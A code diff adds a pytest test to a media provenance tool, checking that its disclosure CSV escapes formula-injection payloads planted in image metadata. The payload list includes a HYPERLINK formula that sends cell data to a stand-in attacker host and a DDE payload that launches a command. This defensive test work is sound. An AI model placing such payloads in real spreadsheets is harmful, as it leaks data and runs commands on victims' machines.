@@ -6,6 +6,8 @@ import csv
 import dataclasses
 import io
 import json
+import subprocess
+import unicodedata
 
 import pytest
 
@@ -87,3 +89,34 @@ def test_disclosure_counts_different_approvers_under_a_two_person_rule(
     assert state_after("Legal", "LEGAL-1") == "pending: final-deliverable"
     assert state_after("Legal", "LEGAL-2") == "pending: final-deliverable"  # the same approver again
     assert state_after("Producer", "PROD-1") == "approved"
+
+
+# Cells a spreadsheet would run as a formula (OWASP "CSV Injection"), full-width forms included.
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1)", "+1+cmd|' /C calc'!A0",
+           "-2+3", "\tTAB=1", "\rCR=1", "\uff1dHYPERLINK(\"x\")", "\uff20SUM(1)", "  =1+1"]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_disclosure_csv_never_writes_a_formula_cell_from_file_metadata(
+        show: Show, capsys: pytest.CaptureFixture[str], text: str) -> None:
+    # A real JPEG whose XMP (written by real ExifTool with our namespace) names the tool and
+    # purpose: file metadata an artist controls ends up in the CSV a producer opens.
+    from provenance.evidence._exiftool import CONFIG_FILE
+
+    jpeg = ai_jpeg(show.root / "final" / "hostile.jpg")
+    subprocess.run(["exiftool", "-config", str(CONFIG_FILE), "-q", "-overwrite_original",
+                    f"-XMP-provenance:Tool={text}", f"-XMP-provenance:Purpose={text}", str(jpeg)], check=True)
+    record(show, jpeg)
+    capsys.readouterr()
+    assert main(["report", "--disclosure", "--csv", "--config", str(show.config_file)]) in (0, None)
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert main(["report", "--disclosure", "--json", "--config", str(show.config_file)]) in (0, None)
+    (raw,) = json.loads(capsys.readouterr().out)["assets"]
+    assert len(rows) == 1
+    row = rows[0]
+    for value in row.values():
+        first = unicodedata.normalize("NFKC", value.lstrip(" ")[:1])
+        assert first not in ("=", "+", "-", "@", "\t", "\r"), (text, value)
+    # Escaped with the leading quote OWASP recommends; the text itself is kept, not mangled.
+    assert raw["tool"].lstrip(" \n")[:1] in "=+-@\t\r\uff1d\uff20", raw["tool"]  # hostile when read back
+    assert row["tool"] == "'" + raw["tool"] and row["purpose"] == "'" + raw["purpose"]
